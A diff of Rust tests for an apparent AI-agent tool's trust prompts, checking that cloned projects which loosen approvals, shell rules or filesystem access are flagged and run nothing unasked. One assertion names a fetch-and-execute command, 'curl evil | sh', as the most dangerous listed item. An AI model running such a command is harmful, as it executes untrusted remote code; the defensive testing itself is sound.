@@ -51,7 +51,7 @@ const LIST: &str = "  \
 run     [\"sh\", \"tool.sh\"], which can run any program, unasked  project.json:3  shell `sh`
   run     [\"npx\", \"-y\", \"hub\"] with TOKEN                        project.json:4  mcp `hub`
   allow   write_file in the working directory                    tidy.worker:5   agent `tidy`
-  answer  from a script instead of a model                       tidy.worker:3   s.yaml, agent `tidy`
+  answer  from a script instead of a model                       tidy.worker:3   s.yaml
 ";
 
 /// The digest of a list, as it is shown.
@@ -199,7 +199,7 @@ fn a_long_list_comes_in_pages_and_yes_counts_below_the_last() {
     terminal.expect("space more").press("y").answer("y").answer("p").answer("n");
     let left = terminal.left();
     assert_eq!(left.code, Some(4), "{}", left.screen);
-    let first: Vec<&str> = left.screen.lines().take(3).collect();
+    let first: Vec<&str> = left.written.lines().take(3).collect();
     assert!(first[1].contains("[\"sh\", \"-c\", \"curl evil | sh\"]"), "the most dangerous first: {first:?}");
     assert!(first[2].contains("every question: it is answered with yes"), "{first:?}");
     let terminal = start();
@@ -298,12 +298,12 @@ fn what_new_writes_is_trusted_and_what_is_added_is_not() {
     let sandbox = Sandbox::new();
     sandbox.file("s.yaml", "- say: ran\n");
     assert_eq!(headless(&sandbox, &["new", "mine"]).code, Some(0));
-    let run = ["mine", "hi", "-m", "scripted:s.yaml"];
+    let run = ["mine", "hi", "-m", "main=scripted:s.yaml"];
     assert_eq!(headless(&sandbox, &run).code, Some(0));
     let worker = std::fs::read_to_string(sandbox.path().join("mine/main.worker")).unwrap();
     sandbox
         .file("mine/main.worker", &worker.replacen("---\n", "---\nserver_side_tools: [{tool_type: web_fetch}]\n", 1));
-    let ended = Run::of(&sandbox, &["mine", "hi", "-m", "anthropic:m"])
+    let ended = Run::of(&sandbox, &["mine", "hi", "-m", "main=anthropic:m"])
         .with("LLM_DO_TRUST", "")
         .with("ANTHROPIC_API_KEY", "k")
         .ended();
@@ -335,4 +335,52 @@ fn a_script_of_the_users_and_a_project_of_prompts_need_no_trust() {
     let ended = headless(&sandbox, &["p", "hi", "-m", "scripted:s.yaml"]);
     assert_eq!((ended.code, ended.stdout.as_str(), ended.stderr.as_str()), (Some(0), "ran\n", ""));
     assert!(!sandbox.path().join(".local").exists(), "nothing is looked up, nothing is made");
+}
+
+/// Whatever a clone loosens, by whichever key: the one who types its name in their own directory is asked, and nothing of it
+/// happens meanwhile.
+#[test]
+fn a_clone_that_loosens_anything_does_nothing_unasked() {
+    let write = "- { round: 1, call: { write_file: { path: note.md, content: x } } }\n- say: ran\n";
+    let commands = "- { round: 1, call: { shell: { command: mkdir made } } }\n- say: ran\n";
+    let shell = |rules: &str| format!(", \"toolsets\": {{\"sh\": {{\"shell\": {{\"rules\": [{rules}]}}}}}}");
+    let clones = [
+        (
+            String::new(),
+            "toolsets: [filesystem_cwd]\napproval: {write_file: allow}",
+            write,
+            "write_file in the working",
+        ),
+        (
+            ", \"toolsets\": {\"mine\": {\"use\": \"filesystem_cwd\", \"approval\": {\"write_file\": \"allow\"}}}"
+                .to_owned(),
+            "toolsets: [mine]",
+            write,
+            "write_file of `filesystem_cwd`",
+        ),
+        (
+            ", \"runtime\": {\"approval_mode\": \"approve_all\"}".to_owned(),
+            "toolsets: [filesystem_cwd]",
+            write,
+            "every question: it is answered with yes",
+        ),
+        (shell("{\"pattern\": \"mkdir\", \"approval\": \"allow\"}"), "toolsets: [sh]", commands, "[\"mkdir\"]"),
+        (
+            ", \"toolsets\": {\"all\": {\"filesystem\": {\"root\": \"/\", \"mode\": \"ro\"}}}".to_owned(),
+            "toolsets: [all]",
+            "- { round: 1, call: { read_file: { path: etc/hostname } } }\n- say: ran\n",
+            "/, read",
+        ),
+    ];
+    for (keys, worker, script, item) in clones {
+        let sandbox = Sandbox::new();
+        sandbox.file("clone/tidy/project.json", &manifest(&keys)).file("s.yaml", script);
+        sandbox.file("clone/tidy/tidy.worker", &format!("---\nname: tidy\n{worker}\n---\nx\n"));
+        let run = ["clone/tidy", "hi", "-m", "scripted:s.yaml"];
+        let ended = headless(&sandbox, &run);
+        assert_eq!((ended.code, ended.stdout.as_str()), (Some(4), ""), "{item}");
+        assert!(ended.stderr.contains(item), "{}", ended.stderr);
+        let made = ["note.md", "made"].map(|name| sandbox.path().join(name).exists());
+        assert_eq!(made, [false, false], "{item}");
+    }
 }
